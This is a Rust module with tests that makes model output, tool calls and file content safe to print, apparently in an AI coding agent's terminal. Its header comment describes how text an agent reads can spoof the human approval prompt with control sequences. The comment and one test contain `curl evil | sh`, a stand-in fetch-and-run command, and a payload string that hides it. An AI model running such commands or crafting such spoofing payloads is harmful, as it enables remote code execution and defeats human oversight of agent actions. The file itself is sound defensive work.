//! Text from the model, tools and files made safe to print on a terminal.
//!
//! A tool call's command, a file's content in a diff, a file name in a
//! tool's output or the answer itself come from the model or from what it
//! read (a web page, a cloned repository). Printed as they are, their
//! control characters drive the terminal: `\r` or `ESC [2K` rewrite the
//! approval question so that `curl evil | sh` shows as `ls`, `ESC ]52`
//! writes the clipboard, `ESC ]8` makes links say one thing and open
//! another, bidirectional overrides reorder what is read. Every such
//! character is shown in a visible form instead (`^[`, `^M`, `\u{202e}`),
//! so what is on screen is what runs.

use std::borrow::Cow;

/// `text` with every control character (but newline and tab) written
/// visibly: C0 as caret notation (`ESC` is `^[`, a lone `\r` is `^M`; a
/// `\r\n` line end stays), DEL as `^?`, C1 and bidirectional controls as
/// `\u{..}`. Borrowed when there is nothing to change.
pub(crate) fn printable(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' if chars.peek() == Some(&'\n') => {}
            c if (c as u32) < 0x20 && c != '\n' && c != '\t' => {
                out.push('^');
                out.push(char::from(b'@' + c as u8));
            }
            '\u{7f}' => out.push_str("^?"),
            c if needs_escape(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Characters a terminal acts on instead of showing.
fn needs_escape(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        // Bidirectional embeddings, overrides and isolates ("Trojan Source").
        | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        let text = "ls -la\n\tsrc/ é ✓";
        assert!(matches!(printable(text), Cow::Borrowed(t) if t == text));
    }

    #[test]
    fn escapes_carriage_returns_and_bidi_overrides_show_instead_of_acting() {
        assert_eq!(printable("curl evil | sh\r\x1b[2Kls"), "curl evil | sh^M^[[2Kls");
        assert_eq!(printable("a\u{7}b\u{7f}c\u{9b}d"), "a^Gb^?c\\u{9b}d");
        assert_eq!(printable("x\u{202e}fdp.exe"), "x\\u{202e}fdp.exe");
        assert_eq!(printable("line one\r\nline two"), "line one\nline two");
    }
}
